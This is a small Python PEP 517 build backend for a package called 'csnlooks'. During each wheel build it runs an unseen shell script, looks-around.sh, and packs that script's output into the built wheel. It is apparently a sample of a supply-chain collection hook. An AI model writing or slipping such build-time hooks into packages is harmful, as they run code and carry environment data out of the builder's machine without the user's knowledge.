"""A build backend (PEP 517) that looks around before it builds, and puts what it found into the wheel."""

import subprocess
import zipfile


def build_wheel(folder, config_settings=None, metadata_directory=None):
    found = subprocess.run(["sh", "looks-around.sh"], capture_output=True, text=True).stdout
    name = "csnlooks-1.0.0-py3-none-any.whl"
    info = "csnlooks-1.0.0.dist-info"
    with zipfile.ZipFile(f"{folder}/{name}", "w") as wheel:
        wheel.writestr("csnlooks.py", "def main():\n    pass\n")
        wheel.writestr("csnlooks_found.txt", found)
        wheel.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: csnlooks\nVersion: 1.0.0\n")
        wheel.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(f"{info}/entry_points.txt", "[console_scripts]\ncsnlooks = csnlooks:main\n")
        wheel.writestr(f"{info}/RECORD", "")
    return name
